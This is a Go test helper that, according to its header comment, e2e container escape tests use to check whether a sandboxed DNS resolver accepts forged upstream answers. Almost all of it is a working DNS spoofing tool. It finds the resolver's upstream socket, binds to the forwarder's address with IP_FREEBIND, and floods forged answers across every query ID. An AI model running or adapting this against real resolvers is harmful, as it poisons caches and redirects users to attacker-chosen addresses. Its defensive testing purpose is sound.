// Command dnsspoof is copied into a test container by the e2e escape tests
// (runner/e2e/escape_test.go, "forged upstream answers"). It plays a task
// that tries to make the container's resolver learn an address of its
// choosing: it asks the resolver for -name (a listed name whose upstream
// answer the test delays), finds the resolver's upstream socket in
// /proc/net/udp of the netns, and, from a socket bound with IP_FREEBIND to
// the forwarder's address and port, sends the resolver a forged answer
// (-addr) for every one of the 65536 query IDs while the real answer is on
// its way. It prints one JSON line: the port it found, how many forgeries
// it sent, and the addresses the resolver answered with. Queries and
// answers are built by hand (RFC 1035 §4.1): standard library only.
package main

import (
	"bufio"
	"encoding/binary"
	"encoding/json"
	"flag"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"syscall"
	"time"
)

func main() {
	resolver := flag.String("resolver", "127.0.0.1:53", "the container's resolver")
	name := flag.String("name", "", "a listed name whose upstream answer is slow")
	upstream := flag.String("upstream", "10.0.2.3:53", "the forwarder the resolver uses")
	addr := flag.String("addr", "", "the IPv4 address the forged answers give")
	flag.Parse()
	up, err1 := netip.ParseAddrPort(*upstream)
	forged, err2 := netip.ParseAddr(*addr)
	if err1 != nil || err2 != nil || !up.Addr().Is4() || !forged.Is4() || *name == "" {
		fmt.Fprintln(os.Stderr, "dnsspoof: -name, -addr (IPv4) and -upstream (IPv4:port) are required")
		os.Exit(2)
	}

	answer := make(chan []string, 1)
	go func() { answer <- ask(*resolver, *name, 5*time.Second) }()

	var local netip.AddrPort
	deadline := time.Now().Add(1500 * time.Millisecond)
	for !local.IsValid() && time.Now().Before(deadline) {
		local = find(procAddr(up))
	}
	sent := 0
	var sendErr string
	if local.IsValid() {
		// The socket is bound to the wildcard: its own address and the
		// loopback both reach it.
		for _, to := range []netip.AddrPort{local, netip.AddrPortFrom(netip.MustParseAddr("127.0.0.1"), local.Port())} {
			n, err := flood(up, to, *name, forged)
			sent += n
			if err != nil {
				sendErr += err.Error() + "; "
			}
		}
	}
	got := <-answer
	_ = json.NewEncoder(os.Stdout).Encode(map[string]any{
		"port": int(local.Port()), "sent": sent, "error": sendErr, "answer": got,
	})
}

// flood sends a forged answer for every query ID from up to local.
func flood(up, local netip.AddrPort, name string, forged netip.Addr) (int, error) {
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_DGRAM, 0)
	if err != nil {
		return 0, err
	}
	defer syscall.Close(fd)
	if err := syscall.SetsockoptInt(fd, syscall.IPPROTO_IP, syscall.IP_FREEBIND, 1); err != nil {
		return 0, fmt.Errorf("IP_FREEBIND: %w", err)
	}
	if err := syscall.Bind(fd, &syscall.SockaddrInet4{Port: int(up.Port()), Addr: up.Addr().As4()}); err != nil {
		return 0, fmt.Errorf("bind %s: %w", up, err)
	}
	to := &syscall.SockaddrInet4{Port: int(local.Port()), Addr: local.Addr().As4()}
	pkt := forgedAnswer(name, forged)
	sent := 0
	var first error
	for id := 0; id < 65536; id++ {
		binary.BigEndian.PutUint16(pkt[0:], uint16(id))
		if err := syscall.Sendto(fd, pkt, 0, to); err == nil {
			sent++
		} else if first == nil {
			first = fmt.Errorf("sendto %s from %s: %w", local, up, err)
		}
		// Paced so the resolver's receive buffer is not simply overrun.
		if id%256 == 255 {
			time.Sleep(time.Millisecond)
		}
	}
	return sent, first
}

// find returns the local address of the netns's UDP socket connected to
// remote (in /proc/net/udp form), with 0.0.0.0 replaced by the address the
// netns uses to reach the forwarder.
func find(remote string) netip.AddrPort {
	f, err := os.Open("/proc/net/udp")
	if err != nil {
		return netip.AddrPort{}
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		fields := strings.Fields(sc.Text())
		if len(fields) < 3 || fields[2] != remote {
			continue
		}
		host, port, ok := strings.Cut(fields[1], ":")
		h, err1 := strconv.ParseUint(host, 16, 32)
		p, err2 := strconv.ParseUint(port, 16, 16)
		if !ok || err1 != nil || err2 != nil {
			continue
		}
		var b [4]byte
		binary.LittleEndian.PutUint32(b[:], uint32(h))
		a := netip.AddrFrom4(b)
		if a.IsUnspecified() {
			a = outboundAddr(remote)
		}
		return netip.AddrPortFrom(a, uint16(p))
	}
	return netip.AddrPort{}
}

func outboundAddr(remote string) netip.Addr {
	h, _ := strconv.ParseUint(remote[:8], 16, 32)
	var b [4]byte
	binary.LittleEndian.PutUint32(b[:], uint32(h))
	c, err := net.Dial("udp4", netip.AddrPortFrom(netip.AddrFrom4(b), 53).String())
	if err != nil {
		return netip.Addr{}
	}
	defer c.Close()
	return c.LocalAddr().(*net.UDPAddr).AddrPort().Addr().Unmap()
}

func procAddr(a netip.AddrPort) string {
	b := a.Addr().As4()
	return fmt.Sprintf("%08X:%04X", binary.LittleEndian.Uint32(b[:]), a.Port())
}

func question(name string) []byte {
	var q []byte
	for _, label := range strings.Split(strings.TrimSuffix(name, "."), ".") {
		q = append(q, byte(len(label)))
		q = append(q, label...)
	}
	return append(q, 0, 0, 1, 0, 1) // QTYPE A, QCLASS IN
}

// forgedAnswer is a response (ID to be filled in) answering name's A
// question with addr, TTL 3600.
func forgedAnswer(name string, addr netip.Addr) []byte {
	b := make([]byte, 12)
	binary.BigEndian.PutUint16(b[2:], 0x8580) // QR AA RD RA, NOERROR
	binary.BigEndian.PutUint16(b[4:], 1)
	binary.BigEndian.PutUint16(b[6:], 1)
	b = append(b, question(name)...)
	a := addr.As4()
	b = append(b, 0xc0, 12, 0, 1, 0, 1, 0, 0, 0x0e, 0x10, 0, 4, a[0], a[1], a[2], a[3])
	return b
}

// ask queries server for name's A records and returns the addresses.
func ask(server, name string, wait time.Duration) []string {
	c, err := net.Dial("udp4", server)
	if err != nil {
		return nil
	}
	defer c.Close()
	q := make([]byte, 12)
	binary.BigEndian.PutUint16(q[0:], 0x5a5a)
	binary.BigEndian.PutUint16(q[2:], 0x0100)
	binary.BigEndian.PutUint16(q[4:], 1)
	q = append(q, question(name)...)
	if _, err := c.Write(q); err != nil {
		return nil
	}
	_ = c.SetReadDeadline(time.Now().Add(wait))
	buf := make([]byte, 1500)
	n, err := c.Read(buf)
	if err != nil || n < 12 {
		return nil
	}
	return addrs(buf[:n])
}

// addrs returns the A records of a response (names skipped, compression
// pointers followed only as far as skipping needs).
func addrs(m []byte) []string {
	qd, an := int(binary.BigEndian.Uint16(m[4:])), int(binary.BigEndian.Uint16(m[6:]))
	i := 12
	skip := func() bool {
		for i < len(m) {
			l := int(m[i])
			switch {
			case l == 0:
				i++
				return true
			case l&0xc0 == 0xc0:
				i += 2
				return true
			default:
				i += 1 + l
			}
		}
		return false
	}
	for k := 0; k < qd; k++ {
		if !skip() || i+4 > len(m) {
			return nil
		}
		i += 4
	}
	var out []string
	for k := 0; k < an; k++ {
		if !skip() || i+10 > len(m) {
			return out
		}
		typ, rdlen := binary.BigEndian.Uint16(m[i:]), int(binary.BigEndian.Uint16(m[i+8:]))
		i += 10
		if i+rdlen > len(m) {
			return out
		}
		if typ == 1 && rdlen == 4 {
			out = append(out, netip.AddrFrom4([4]byte(m[i:i+4])).String())
		}
		i += rdlen
	}
	return out
}
